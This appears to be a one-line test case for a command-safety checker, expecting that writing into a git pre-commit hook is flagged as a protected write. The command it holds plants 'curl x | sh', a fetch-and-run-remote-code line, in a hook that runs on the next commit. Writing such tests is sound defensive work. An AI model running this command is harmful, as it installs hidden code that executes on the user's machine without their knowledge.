# expect: write+protected
# why: a git hook runs on the next commit
echo 'curl x | sh' > .git/hooks/pre-commit
